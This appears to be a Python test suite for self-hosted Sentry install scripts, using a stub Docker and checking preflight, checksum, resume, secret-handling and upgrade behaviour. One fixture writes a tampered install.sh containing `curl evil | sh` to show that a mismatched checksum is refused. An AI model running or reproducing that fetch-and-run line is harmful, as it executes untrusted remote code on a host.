"""Self-hosted Sentry as far as it runs without upstream's images: the real scripts, a release's layout, a web API.

Made up are the release's files, whose installer only records, and `docker`, which writes down what it is asked and
starts the embedded engine where Sentry's containers would be started.
"""

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from monitors.client import SentryClient
from rehearsal.bringing_up import bring_up_chosen
from rehearsal.self_hosted import install, release
from rehearsal.self_hosted.preflight import Profile
from rehearsal.self_hosted.release import digest_contents
from rehearsal.self_hosted.state import find_installation, find_installed
from rehearsal.settings import ROOT, Options
from tests.path.engine import free_port
from tests.unit.rehearsal.self_hosted.upstream import FILES, RELEASE, make_archive

STEPS = ("fetch", "unpack", "overlay", "installer", "start", "bootstrap")
QUESTIONS = ("version", "compose version", "buildx", "info", "volume ls")
# `sentry exec` prints the engine's token after a line of the container's own, as a real one does.
DOCKER = """#!/bin/sh
cd "{folder}"
echo "$*" >>docker.log
case "$*" in
  "version "*) echo '{{"Version": "28.5.2", "Arch": "amd64"}}' ;;
  "compose version --short") cat compose-version ;;
  "buildx version") echo "github.com/docker/buildx 0.29.1" ;;
  "info "*) echo '{{"NCPU": 4, "MemTotal": '"$(cat memory)"', "DockerRootDir": "/"}}' ;;
  "volume ls "*) cat volumes ;;
  "compose --ansi never -p "*" up "*)
    env | grep ^STACK_ >stack-environment
    echo http://key@nginx/2 >"$STACK_VAR/exchange/SENTRY_DSN" ;;
  *" up --detach --wait "*)
    [ ! -e pid ] || exit 0
    EMBEDDED_PORT={port} EMBEDDED_DATA_DIR=engine nohup {python} -m embedded >engine.log 2>&1 </dev/null & echo $! >pid
    until {python} -c "import urllib.request as u; u.urlopen('http://127.0.0.1:{port}/_health/')" 2>/dev/null; do
      kill -0 "$(cat pid)" || exit 1
    done ;;
  *" down "*) [ ! -e pid ] || kill "$(cat pid)"; rm -f pid ;;
  *" sentry exec") cat >script.py; echo "Updating certificates"; printf 'REHEARSAL_TOKEN='; cat engine/token ;;
esac
"""


@dataclass
class Host:
    """A machine with a made-up Docker."""

    folder: Path
    port: int

    @property
    def var(self) -> Path:
        return self.folder / "var"

    @property
    def home(self) -> Path:
        return self.var / "self-hosted"

    @property
    def release(self) -> Path:
        return self.home / RELEASE

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def run(self, command: str, *arguments: str, **environ: str) -> "subprocess.CompletedProcess[str]":
        """Run a script of sentry-self-hosted/ as a person would."""
        own = {
            "PATH": f"{self.folder}:{os.environ['PATH']}",
            "SENTRY_BIND": self.url.removeprefix("http://"),
            "SENTRY_TARBALL": str(self.folder / "release.tar.gz"),
            "SENTRY_DSN": "http://our-own@elsewhere/1",
            "COMPOSE_PROFILES": "ours",
        }
        script = str(ROOT / "sentry-self-hosted" / command)
        folder = ("--folder", str(self.folder / "definition")) if command in ("install", "upgrade") else ()
        return subprocess.run(
            [script, *folder, "--var", str(self.var), *arguments],
            env=os.environ | own | environ,
            capture_output=True,
            text=True,
            timeout=90,
            check=False,
        )

    def install(self, **environ: str) -> None:
        done = self.run("install", **environ)
        assert done.returncode == 0, done.stderr

    def asked(self) -> list[str]:
        """What docker was asked, without the questions that preflight asks."""
        lines = (self.folder / "docker.log").read_text().splitlines()
        return [line for line in lines if not line.startswith(QUESTIONS)]

    def tree(self) -> dict[str, bytes]:
        """The release as it lies on disk, with its overlay, without what the installer recorded."""
        files = [file for file in self.release.rglob("*") if file.is_file() and "installer" not in file.name]
        return {str(file.relative_to(self.release)): file.read_bytes() for file in files}

    def stop(self) -> None:
        """End what stands for Sentry, as a machine that is switched off would."""
        pid = self.folder / "pid"
        if pid.exists():
            os.kill(int(pid.read_text()), signal.SIGTERM)
            pid.unlink()


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    monkeypatch.delenv("PROFILE", raising=False)
    port = free_port()
    (tmp_path / "docker").write_text(DOCKER.format(folder=tmp_path, port=port, python=sys.executable))
    (tmp_path / "docker").chmod(0o755)
    (tmp_path / "compose-version").write_text("2.40.3")
    (tmp_path / "memory").write_text("34359738368")
    (tmp_path / "volumes").write_text("unrelated\n")
    (tmp_path / "docker.log").touch()
    archive = make_archive(tmp_path / "release.tar.gz")
    definition = shutil.copytree(ROOT / "sentry-self-hosted", tmp_path / "definition")
    (definition / "CHECKSUMS").write_text(f"{RELEASE} {digest_contents(archive)}\n")
    made = Host(tmp_path, port)
    yield made
    made.stop()


def test_one_command_installs_starts_and_bootstraps(host: Host) -> None:
    done = host.run("install")
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"{RELEASE} (feature-complete) at {host.url}\nnext: make up SENTRY=self-hosted\n"
    assert "as sentry-self-hosted/CHECKSUMS says" in done.stderr
    arguments = (host.release / "installer-arguments").read_text().split()
    assert arguments == list(install.INSTALLER[2:])
    environment = (host.release / "installer-environment").read_text()
    assert not any(name in environment for name in ("our-own", "COMPOSE_PROFILES=ours", "SENTRY_TARBALL"))
    assert "installing feature-complete" in (host.home / "install.log").read_text()
    project = "compose --ansi never --env-file .env --env-file .env.custom"
    assert [line.partition("--force-update")[0].strip() for line in host.asked()] == [
        f"{project} up --detach --wait --wait-timeout 1800",
        f"{project} exec -T web sentry createuser --superuser --email admin@sentry.internal --no-password --no-input",
        f"{project} exec -T web sentry exec",
    ]
    found = find_installed(host.var)
    assert found is not None
    assert found.done == STEPS


def test_secrets_reach_sentry_on_standard_input_and_are_private_here(host: Host) -> None:
    host.install()
    password = json.loads((host.home / "secrets.json").read_text())["ADMIN_PASSWORD"]
    script = (host.folder / "script.py").read_text()
    compile(script, "script.py", "exec")
    assert password in script
    assert password not in (host.folder / "docker.log").read_text()
    private = (host.home / "token", host.home / "secrets.json", host.release / ".env.custom")
    assert {file.stat().st_mode & 0o777 for file in private} == {0o600}


def test_the_token_provisions_the_project_and_nothing_is_made_twice(host: Host) -> None:
    host.install()
    token = (host.home / "token").read_text().strip()
    with SentryClient(host.url, token, "sentry") as sentry:
        assert [project.slug for project in sentry.projects()] == ["isl"]
    argv = [sys.executable, "-m", "rehearsal.provisioning", "--url", host.url, "--token-file", str(host.home / "token")]
    argv += ["--sink-url", "http://sink.internal:8085", "--folder", str(host.folder)]
    said = [subprocess.run(argv, capture_output=True, text=True, check=True).stderr for _ in range(2)]
    assert said[1] == "project isl ready, 0 monitors and alerts changed\n" != said[0]
    before = host.asked()
    assert host.run("bootstrap").returncode == 0
    assert host.asked() == before  # the token is still taken, so nobody asks Sentry's command line again
    (host.home / "token").write_text("sntryu_forgotten")
    assert host.run("bootstrap").returncode == 0
    assert (host.home / "token").read_text().strip() == token


def test_a_second_run_has_nothing_to_do(host: Host) -> None:
    host.install()
    before, tree = host.asked(), host.tree()
    done = host.run("install")
    assert (done.returncode, "nothing to do" in done.stderr) == (0, True)
    assert (host.asked(), host.tree()) == (before, tree)


@pytest.mark.parametrize("is_done", [False, True], ids=["before it has run", "after it has run, not yet written down"])
@pytest.mark.parametrize("step", STEPS)
def test_broken_off_at_any_step_the_next_run_ends_the_same(
    host: Host, monkeypatch: pytest.MonkeyPatch, step: str, is_done: bool
) -> None:
    """In this process, so that it can be stopped at one instant; the rest is as a command would do it."""
    monkeypatch.setenv("PATH", f"{host.folder}:{os.environ['PATH']}")
    order = install.Order(
        host.var, RELEASE, Profile.ERRORS_ONLY, host.url.removeprefix("http://"), host.folder / "release.tar.gz",
        folder=host.folder / "definition",
    )  # fmt: skip
    names = {"fetch": "_fetch", "unpack": "_unpack", "overlay": "_lay", "installer": "_run_installer"}
    name = names.get(step, step)
    real = getattr(install, name)

    def break_off(*arguments: object) -> None:
        if is_done:
            real(*arguments)
        raise KeyboardInterrupt

    class Silent:
        def say(self, text: str) -> None: ...
        def show(self, text: str) -> None: ...

    with monkeypatch.context() as broken:
        broken.setattr(install, name, break_off)
        with pytest.raises(KeyboardInterrupt):
            install.install(order, Silent())
    under_way = find_installation(host.var)
    assert (under_way.done if under_way else ()) == STEPS[: STEPS.index(step)]
    assert find_installed(host.var) is None
    assert install.install(order, Silent()).done == STEPS
    tree = host.tree()
    assert set(tree) == {
        *FILES,
        ".env.custom",
        "docker-compose.override.yml",
        "sentry/sentry.conf.py",
        "sentry/config.yml",
    }
    assert b"made-by-the-installer" in tree["sentry/config.yml"]
    assert b"COMPOSE_PROFILES=errors-only" in tree[".env.custom"]
    assert httpx.get(f"{host.url}/_health/", trust_env=False).is_success


def test_an_installer_that_fails_is_quoted_and_the_next_run_goes_on_from_it(host: Host) -> None:
    host.home.mkdir(parents=True)
    (host.home / "fail").touch()
    done = host.run("install")
    assert done.returncode == 3
    assert "upstream's installer ended with code 1" in done.stderr
    assert "FAIL: no registry" in done.stderr
    assert "make sentry-install again, which goes on from this step" in done.stderr
    (host.home / "fail").unlink()
    host.install()


def put(file: str, text: str) -> Callable[[Host], dict[str, str]]:
    """What the made-up docker answers."""

    def change(host: Host) -> dict[str, str]:
        (host.folder / file).write_text(text)
        return {}

    return change


def without_docker(host: Host) -> dict[str, str]:
    (host.folder / "docker").write_text("#!/bin/sh\necho Cannot connect to the Docker daemon >&2; exit 1\n")
    return {}


def with_another_archive(host: Host) -> dict[str, str]:
    make_archive(host.folder / "release.tar.gz", FILES | {"install.sh": "curl evil | sh"})
    return {}


def with_half_an_archive(host: Host) -> dict[str, str]:
    whole = (host.folder / "release.tar.gz").read_bytes()
    (host.folder / "release.tar.gz").write_bytes(whole[: len(whole) // 2])
    return {}


def without_archive(host: Host) -> dict[str, str]:
    return {"SENTRY_TARBALL": str(host.folder / "none.tar.gz")}


@pytest.mark.parametrize(
    ("break_it", "found", "needed", "following"),
    [
        (without_docker, "Cannot connect to the Docker daemon", "19.03.6 or newer", "make sentry-preflight"),
        (put("compose-version", "1.29.2"), "1.29.2", "2.32.2 or newer", "make sentry-preflight"),
        (put("compose-version", "2.26.1-4"), "2.26.1-4", "2.32.2 or newer", "make sentry-preflight"),
        (put("memory", "4294967296"), "4096 MB", "14000 MB (feature-complete)", "make sentry-preflight"),
        (put("volumes", "sentry-data\n"), "sentry-data", "one host holds one self-hosted", "make sentry-preflight"),
        (with_another_archive, "found contents", "needed are", "make sentry-install from another network"),
        (with_half_an_archive, "found no whole archive", "needed is the release's", "make sentry-install"),
        (without_archive, "found no file", "needed is the archive", "make sentry-install SENTRY_TARBALL=<file>"),
    ],
    ids=[
        "no Docker", "Compose 1", "an old Compose", "too little memory", "a second install", "a wrong checksum",
        "a damaged archive", "no archive",
    ],
)  # fmt: skip
def test_bad_input_ends_with_what_was_found_what_is_needed_and_the_next_command(
    host: Host, break_it: Callable[[Host], dict[str, str]], found: str, needed: str, following: str
) -> None:
    done = host.run("install", **break_it(host))
    assert (done.returncode, done.stdout) == (3, "")
    said = " ".join(done.stderr.split())
    assert found in said
    assert needed in said
    assert "next: " in said
    assert following in said.rpartition("next: ")[2]
    assert not host.release.exists()
    assert host.asked() == []


def test_a_taken_port_is_a_row_of_its_own(host: Host) -> None:
    taken = f"127.0.0.1:{free_port()}"
    with socket.create_server(("127.0.0.1", int(taken.rpartition(":")[2]))):
        done = host.run("preflight", SENTRY_BIND=taken)
    assert done.returncode == 3
    assert f"missing: port {taken}: stop what listens there, or SENTRY_BIND=127.0.0.1:<another>" in done.stderr


def test_a_network_that_fails_half_way_leaves_nothing_and_the_next_run_repairs_it(host: Host) -> None:
    whole = (host.folder / "release.tar.gz").read_bytes()
    sent = [whole[: len(whole) // 2], whole]

    class Flaky(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(whole)))
            self.end_headers()
            self.wfile.write(sent.pop(0))

        def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002 - its own name

    server = ThreadingHTTPServer(("127.0.0.1", 0), Flaky)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = ("--url", f"http://127.0.0.1:{server.server_port}/{{release}}")
        broken = host.run("install", *url, SENTRY_TARBALL="")
        assert broken.returncode == 3
        said = " ".join(broken.stderr.split())
        assert f"after {len(whole) // 2} bytes, needed is the whole archive; next: make sentry-install again" in said
        assert list((host.home / "downloads").iterdir()) == []
        mended = host.run("install", *url, SENTRY_TARBALL="")
        assert mended.returncode == 0, mended.stderr
    finally:
        server.shutdown()
        server.server_close()


def test_an_unpinned_release_says_plainly_that_nobody_vouches_for_it(host: Host) -> None:
    (host.folder / "definition" / "CHECKSUMS").write_text("# nothing yet\n")
    done = host.run("install")
    assert done.returncode == 0, done.stderr
    assert "nobody else has vouched for them" in " ".join(done.stderr.split())


def test_another_profile_is_refused_with_the_way_to_get_there(host: Host) -> None:
    host.install()
    done = host.run("install", PROFILE="errors-only")
    assert done.returncode == 2
    assert "sentry-self-hosted/remove --data for another profile or port" in done.stderr


def test_an_upgrade_keeps_secrets_and_data_and_there_is_no_way_back(host: Host) -> None:
    host.install()
    secrets = (host.home / "secrets.json").read_text()
    with SentryClient(host.url, (host.home / "token").read_text().strip(), "sentry") as sentry:
        project = sentry.projects()[0].id
    host.stop()
    definition = host.folder / "definition"
    (definition / "VERSION").write_text("26.9.0\n")
    (definition / "CHECKSUMS").write_text(f"26.9.0 {digest_contents(host.folder / 'release.tar.gz')}\n")
    done = host.run("upgrade")
    assert done.returncode == 0, done.stderr
    assert (host.home / "26.9.0" / "installer-arguments").exists()
    assert (host.home / "secrets.json").read_text() == secrets
    with SentryClient(host.url, (host.home / "token").read_text().strip(), "sentry") as sentry:
        assert sentry.projects()[0].id == project
    (definition / "VERSION").write_text("26.8.0\n")
    back = host.run("upgrade")
    assert (back.returncode, "knows no way back" in back.stderr) == (2, True)


def test_up_starts_sentry_and_then_ours_beside_it_and_down_stops_both(host: Host) -> None:
    host.install()
    asked = len(host.asked())
    rehearse = [str(Path(sys.executable).parent / "rehearse")]
    environ = os.environ | {"PATH": f"{host.folder}:{os.environ['PATH']}"}

    def run(*arguments: str) -> str:
        argv = [*rehearse, *arguments, "--var", str(host.var)]
        done = subprocess.run(argv, env=environ, capture_output=True, text=True, timeout=90, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    facts = json.loads(run("up", "--json"))  # unset: what is installed is taken
    assert (facts["sentry"], facts["engine"]) == ("self-hosted", host.url)
    copy = Path(facts["token"])  # owned by whom the containers run as
    assert copy.read_text() == (host.home / "token").read_text().strip()
    assert copy.stat().st_uid == (host.var / "compose" / "exchange").stat().st_uid
    first, second = host.asked()[asked:]
    assert first.endswith("--env-file .env --env-file .env.custom up --detach --wait --wait-timeout 1800")
    assert "docker-compose.self-hosted.yml up" in second
    given = dict(line.split("=", 1) for line in (host.folder / "stack-environment").read_text().splitlines())
    assert given["STACK_TOKEN_FILE"] == str(copy)
    assert "STACK_SENTRY_PORT" not in given
    assert run("down", "--data") == f"stopped Sentry {RELEASE}\n"
    ours, sentrys = [line for line in host.asked()[asked:] if " down " in line]
    assert ours.endswith("down --remove-orphans --volumes")
    assert sentrys.endswith("down --timeout 60 --remove-orphans")  # its volumes stay
    assert not (host.var / "compose").exists()
    assert find_installed(host.var) is not None


def test_up_installs_what_is_missing(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    """In this process, so that the release's definition can be the test's own."""
    monkeypatch.setenv("PATH", f"{host.folder}:{os.environ['PATH']}")
    monkeypatch.setenv("SENTRY_BIND", host.url.removeprefix("http://"))
    monkeypatch.setenv("SENTRY_TARBALL", str(host.folder / "release.tar.gz"))
    monkeypatch.setattr(release, "FOLDER", host.folder / "definition")
    talk: list[str] = []

    class Talk:
        def say(self, text: str) -> None:
            talk.append(text)

        def show(self, text: str) -> None: ...

    facts = bring_up_chosen(Options(var=host.var, speed=1), None, Talk())
    assert (facts["sentry"], facts["engine"]) == ("self-hosted", host.url)
    assert talk[0].startswith(
        "self-hosted Sentry, a Docker engine is reachable and nothing that Sentry needs is missing"
    )
    assert "it is fetched and installed first" in talk[1]
    installed = find_installed(host.var)
    assert installed is not None
    assert installed.done == STEPS


def test_up_says_what_is_missing_and_takes_the_embedded_engine(host: Host) -> None:
    (host.folder / "compose-version").write_text("2.26.1")
    done = rehearse_on(host, "up", "--sentry", "self-hosted")
    assert done.returncode == 3
    assert "Docker Compose: found 2.26.1, needed 2.32.2 or newer: install a newer Compose plugin" in done.stderr
    assert "next: make sentry-preflight; without it: make up SENTRY=embedded" in done.stderr
    try:
        done = rehearse_on(host, "up")
        assert done.returncode == 0, done.stderr
        assert "embedded Sentry, as processes, which need nothing; not self-hosted: Docker Compose" in done.stderr
    finally:
        rehearse_on(host, "down", "--data")


def rehearse_on(host: Host, *arguments: str) -> "subprocess.CompletedProcess[str]":
    """Run the command line on that machine."""
    argv = [str(Path(sys.executable).parent / "rehearse"), *arguments, "--var", str(host.var)]
    environ = os.environ | {"PATH": f"{host.folder}:{os.environ['PATH']}", "SENTRY_BIND": f"127.0.0.1:{host.port}"}
    return subprocess.run(argv, env=environ, capture_output=True, text=True, timeout=90, check=False)


def test_removed_without_data_it_is_started_again_and_with_data_nothing_is_left(host: Host) -> None:
    host.install()
    done = host.run("remove")
    assert done.stdout == "removed; its data is kept, make sentry-install starts it again\n"
    assert find_installed(host.var) is not None
    host.install()
    assert httpx.get(f"{host.url}/_health/", trust_env=False).is_success
    assert host.run("remove", "--data").returncode == 0
    assert [line for line in host.asked() if line.startswith("volume rm")] == [
        f"volume rm sentry-{each}" for each in ("clickhouse", "data", "kafka", "postgres", "redis", "seaweedfs")
    ]
    assert not host.home.exists()
    again = host.run("remove")
    assert (again.returncode, "next: make sentry-install" in again.stderr) == (3, True)
